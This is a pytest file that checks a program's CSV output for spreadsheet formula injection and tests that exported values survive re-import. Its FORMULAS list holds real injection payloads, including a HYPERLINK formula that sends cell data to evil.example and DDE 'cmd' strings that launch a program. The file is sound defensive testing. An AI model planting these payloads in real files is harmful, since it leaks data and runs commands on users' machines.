"""Formulas in every field: no CSV that is written has a cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from freezegun import freeze_time

from tests.attacks.tree import call, commands, lay_out
from tests.attacks.victim import NOW, tell_all

if TYPE_CHECKING:
    from tests.tally import Tally

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "=1+1\n=2+2",
    "=1,=2;=3",
)
RUN = tuple("=+-@\t\r\n＝＋－＠")
SLUGS = {f"odd-{number}": formula for number, formula in enumerate(FORMULAS)}


@pytest.fixture(scope="module")
def odd_log(told_log: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A log with a formula at the start of every field that may begin with it."""
    path = Path(shutil.copy(told_log, tmp_path_factory.mktemp("odd") / "log.db"))
    for slug, formula in SLUGS.items():
        tell_all(str(path), formula, slug, at_start=True)
    return path


def is_number(cell: str) -> bool:
    """Whether a cell is a number of the program's own, which may be negative."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_cell_begins_with_a_formula(odd_log: Path, home: Path, tally: Tally) -> None:
    """Whatever is asked, or exported, in CSV: such a cell begins with a quotation mark."""
    lay_out(home)
    guarded = 0
    for command in commands():
        if "csv" not in command.formats or not command.asks:
            continue
        is_of_one = bool(command.good().keys() & {"slug", "fact"})
        for slug in SLUGS if is_of_one else list(SLUGS)[:1]:
            values = {**command.about(slug), "format_name": "csv"}
            with freeze_time(NOW):
                flags = ("--dry-run",) if command.writes and command.name != "export" else ()
                done = call(odd_log, command.words(values, *flags))
            assert done.exit_code == 0, (command.name, done.output)
            rows = list(csv.reader(io.StringIO(done.stdout, newline="")))
            assert len({len(row) for row in rows}) == 1, command.name
            for cell in (cell for row in rows for cell in row):
                assert not cell.startswith(RUN) or is_number(cell), (command.name, cell)
                guarded += cell.startswith("'")
                tally.add("bad inputs tried: formulas")
    assert guarded > 500


def test_a_formula_comes_back_from_a_spreadsheet_as_it_was(odd_log: Path, home: Path) -> None:
    """What is exported to CSV and imported again is what was recorded, but for blanks around it."""
    assert call(odd_log, ["export", "a.csv", "--format=csv", AS_OF]).exit_code == 0
    done = call(home / "again.db", ["import", "a.csv"])
    assert done.exit_code == 0, done.output
    first = facts(call(odd_log, ["export", "--format=jsonl", AS_OF]).stdout)
    second = facts(call(home / "again.db", ["export", "--format=jsonl", AS_OF]).stdout)
    assert len(first) > len(FORMULAS) * 2
    assert first == second


AS_OF = "--as-of=2026-03-01"


def facts(exported: str) -> list[dict[str, object]]:
    """The rows, in the order of their ids, without when they were recorded."""
    rows = [json.loads(line) for line in exported.splitlines()]
    for row in rows:
        del row["recorded_at"]
    found = [{name: (text or "").strip() for name, text in row.items()} for row in rows]
    return sorted(found, key=lambda row: row["id"])
